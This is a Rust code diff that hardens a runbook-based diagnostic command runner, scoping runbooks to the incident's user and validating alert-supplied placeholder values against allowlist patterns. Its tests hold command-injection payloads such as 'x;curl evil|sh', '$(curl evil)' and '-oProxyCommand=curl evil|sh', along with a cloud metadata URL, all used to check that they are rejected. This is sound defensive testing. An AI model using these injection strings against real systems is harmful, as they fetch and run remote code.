@@ -1,13 +1,14 @@
-//! Diagnostic commands from configured runbooks: argument lists (never a shell), placeholders
-//! from the alert refused when they could smuggle an option or a NUL, a time limit, an output
-//! cap, an environment cleared but for an allowlist, and a limit on concurrent commands.
+//! Diagnostic commands from configured runbooks: only the incident's user's runbooks,
+//! argument lists (never a shell), placeholders from the alert refused unless they match their
+//! allowlist pattern (and always when they could smuggle an option or a NUL), a time limit, an
+//! output cap, an environment cleared but for an allowlist, and a limit on concurrent commands.
 
 use std::process::Stdio;
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 
 use aurora_rca::AlertContext;
-use aurora_settings::{CommandLimits, Runbook};
+use aurora_settings::{CommandLimits, Piece, Runbook, pieces};
 use chrono::{DateTime, Utc};
 use tokio::io::{AsyncRead, AsyncReadExt};
 use tokio::sync::Semaphore;
@@ -89,8 +90,10 @@ impl CommandRunner {
         )
     }
 
-    /// The commands of every runbook whose terms appear in the alert.
-    pub fn plan(&self, alert: &AlertContext) -> Vec<Planned> {
+    /// The commands of every runbook of `user_id` (the incident's user) whose terms appear in
+    /// the alert. Another user's runbook never runs here, whatever the alert says: its text is
+    /// written by whoever holds one of this user's integration tokens.
+    pub fn plan(&self, user_id: &str, alert: &AlertContext) -> Vec<Planned> {
         let text = std::iter::once(alert.title.as_str())
             .chain(alert.service.as_deref())
             .chain(alert.labels.values().map(String::as_str))
@@ -99,28 +102,28 @@ impl CommandRunner {
             .to_lowercase();
         self.runbooks
             .iter()
+            .filter(|runbook| runbook.user() == user_id)
             .filter(|runbook| {
                 runbook
-                    .match_terms
+                    .match_terms()
                     .iter()
                     .any(|term| text.contains(&term.to_lowercase()))
             })
             .flat_map(|runbook| {
-                runbook
-                    .commands
-                    .iter()
-                    .map(move |template| match render(template, alert) {
+                runbook.commands().iter().map(move |template| {
+                    match render(runbook, template, alert) {
                         Ok(argv) => Planned::Run {
-                            runbook: runbook.name.clone(),
-                            pattern: runbook.pattern.clone(),
+                            runbook: runbook.name().to_owned(),
+                            pattern: runbook.pattern().map(str::to_owned),
                             argv,
                         },
                         Err(reason) => Planned::Refused {
-                            runbook: runbook.name.clone(),
+                            runbook: runbook.name().to_owned(),
                             template: template.clone(),
                             reason,
                         },
-                    })
+                    }
+                })
             })
             .collect()
     }
@@ -222,33 +225,59 @@ async fn read_capped(pipe: Option<impl AsyncRead + Unpin>, cap: usize) -> Vec<u8
     buffer
 }
 
-/// Fills `{service}`, `{environment}`, `{title}`, `{source}` and `{labels.<name>}`. A value
-/// that starts with `-` (it would read as an option) or holds a NUL is refused, and so is a
-/// placeholder without a value.
-pub fn render(template: &[String], alert: &AlertContext) -> Result<Vec<String>, String> {
+/// Fills `{service}`, `{environment}`, `{title}`, `{source}` and `{labels.<name>}` in one of
+/// `runbook`'s commands. A placeholder without a value is refused, and so is a value that does
+/// not wholly match the placeholder's pattern (the runbook's, else the default), or that starts
+/// with `-` (it would read as an option) or holds a NUL whatever the pattern.
+pub fn render(
+    runbook: &Runbook,
+    template: &[String],
+    alert: &AlertContext,
+) -> Result<Vec<String>, String> {
     template
         .iter()
         .map(|arg| {
             let mut out = String::new();
-            let mut rest = arg.as_str();
-            while let Some(open) = rest.find('{') {
-                let Some(close) = rest[open..].find('}') else {
-                    break;
+            for piece in pieces(arg) {
+                let name = match piece {
+                    Piece::Text(text) => {
+                        out.push_str(text);
+                        continue;
+                    }
+                    Piece::Placeholder(name) => name,
                 };
-                let name = &rest[open + 1..open + close];
                 let value =
                     value_of(name, alert).ok_or_else(|| format!("no value for `{{{name}}}`"))?;
                 if value.starts_with('-') || value.contains('\0') {
-                    return Err(format!("unsafe value for `{{{name}}}`: {value:?}"));
+                    return Err(format!(
+                        "unsafe value for `{{{name}}}`: {}",
+                        excerpt(&value)
+                    ));
                 }
-                out.push_str(&rest[..open]);
+                let pattern = runbook.placeholder_pattern(name);
+                if !pattern.is_match(&value) {
+                    return Err(format!(
+                        "the value of `{{{name}}}`, {}, does not match its pattern `{pattern}`",
+                        excerpt(&value)
+                    ));
+                }
                 out.push_str(&value);
-                rest = &rest[open + close + 1..];
             }
-            out.push_str(rest);
             Ok(out)
         })
         .collect()
+}
+
+/// A value as thoughts may quote it: escaped, and cut after 64 characters (it is the sender's
+/// text, and may be long).
+fn excerpt(value: &str) -> String {
+    const SHOWN: usize = 64;
+    let shown: String = value.chars().take(SHOWN).collect();
+    if value.chars().nth(SHOWN).is_some() {
+        format!("{shown:?}…")
+    } else {
+        format!("{shown:?}")
+    }
 }
 
 fn value_of(name: &str, alert: &AlertContext) -> Option<String> {
@@ -286,27 +315,134 @@ mod tests {
 
     #[test]
     fn placeholders_fill_and_unsafe_or_missing_values_are_refused() {
+        let disk = runbook("disk", "user-a", &[&["df", "-h"]]);
         let ok = render(
+            &disk,
             &args(&["ssh", "{labels.instance}", "df", "-h", "/var/lib/{service}"]),
             &alert("db-1"),
         )
         .unwrap();
         assert_eq!(ok, ["ssh", "db-1", "df", "-h", "/var/lib/postgres"]);
         assert!(
-            render(&args(&["echo", "{labels.instance}"]), &alert("-rf"))
+            render(&disk, &args(&["echo", "{labels.instance}"]), &alert("-rf"))
                 .unwrap_err()
                 .contains("unsafe value")
         );
         assert!(
-            render(&args(&["echo", "{labels.instance}"]), &alert("a\0b"))
+            render(&disk, &args(&["echo", "{labels.instance}"]), &alert("a\0b"))
                 .unwrap_err()
                 .contains("unsafe value")
         );
         assert!(
-            render(&args(&["echo", "{environment}"]), &alert("x"))
+            render(&disk, &args(&["echo", "{environment}"]), &alert("x"))
                 .unwrap_err()
                 .contains("no value for `{environment}`")
         );
+    }
+
+    #[test]
+    fn hostile_values_fail_the_default_pattern_and_are_quoted_short() {
+        let ssh = runbook(
+            "disk",
+            "user-a",
+            &[&["ssh", "{labels.instance}", "df", "-h"]],
+        );
+        let template = &ssh.commands()[0];
+        for hostile in [
+            "x;curl evil|sh",
+            "db-1 uptime",
+            "$(curl evil)",
+            "db-1\ncurl evil",
+            "`id`",
+            "-oProxyCommand=curl evil|sh",
+        ] {
+            let err = render(&ssh, template, &alert(hostile)).unwrap_err();
+            assert!(
+                err.contains("`{labels.instance}`")
+                    && (err.contains("does not match its pattern `[A-Za-z0-9._:/-]{1,253}`")
+                        || err.contains("unsafe value")),
+                "{hostile:?}: {err}"
+            );
+        }
+        let long = format!("x;{}", "a".repeat(10_000));
+        let err = render(&ssh, template, &alert(&long)).unwrap_err();
+        assert!(err.len() < 200, "{err}");
+        assert!(err.contains("aaa\"…"), "cut, and marked as cut: {err}");
+    }
+
+    #[test]
+    fn a_runbook_pattern_narrows_what_a_placeholder_may_be() {
+        let status = Runbook::try_from(aurora_settings::RunbookSpec {
+            name: "status page".into(),
+            user: "user-a".into(),
+            match_terms: vec!["disk".into()],
+            commands: vec![args(&["curl", "--max-time", "5", "{labels.instance}"])],
+            placeholder_patterns: [(
+                "labels.instance".to_owned(),
+                r"https://status\.example\.com/[a-z0-9-]+".to_owned(),
+            )]
+            .into(),
+            ..Default::default()
+        })
+        .unwrap();
+        let template = &status.commands()[0];
+        // The default pattern would let this through: `:` and `/` are in it.
+        let metadata = "http://169.254.169.254/latest/meta-data/";
+        assert!(
+            render(
+                &runbook("any", "user-a", &[&["df"]]),
+                template,
+                &alert(metadata)
+            )
+            .is_ok()
+        );
+        let err = render(&status, template, &alert(metadata)).unwrap_err();
+        assert!(
+            err.contains(r"does not match its pattern `https://status\.example\.com/[a-z0-9-]+`"),
+            "{err}"
+        );
+        assert_eq!(
+            render(&status, template, &alert("https://status.example.com/db-1")).unwrap(),
+            ["curl", "--max-time", "5", "https://status.example.com/db-1"]
+        );
+    }
+
+    fn runbook(name: &str, user: &str, commands: &[&[&str]]) -> Runbook {
+        Runbook::try_from(aurora_settings::RunbookSpec {
+            name: name.into(),
+            user: user.into(),
+            match_terms: vec!["disk".into()],
+            commands: commands.iter().map(|c| args(c)).collect(),
+            ..Default::default()
+        })
+        .unwrap()
+    }
+
+    #[test]
+    fn only_the_incidents_users_runbooks_are_planned() {
+        let runner = CommandRunner::new(
+            vec![
+                runbook("mine", "user-a", &[&["df", "-h"]]),
+                runbook(
+                    "theirs",
+                    "user-b",
+                    &[&["ssh", "{labels.instance}", "df", "-h"]],
+                ),
+            ],
+            runner(10, 4096).limits,
+        );
+        // user-a's alert names user-b's host and matches user-b's runbook's terms.
+        let planned = runner.plan("user-a", &alert("db-of-user-b"));
+        assert_eq!(
+            planned,
+            [Planned::Run {
+                runbook: "mine".into(),
+                pattern: None,
+                argv: args(&["df", "-h"]),
+            }]
+        );
+        assert!(runner.plan("user-c", &alert("db-1")).is_empty());
+        assert_eq!(runner.plan("user-b", &alert("db-1")).len(), 1);
     }
 
     fn runner(timeout_secs: u64, cap: usize) -> CommandRunner {
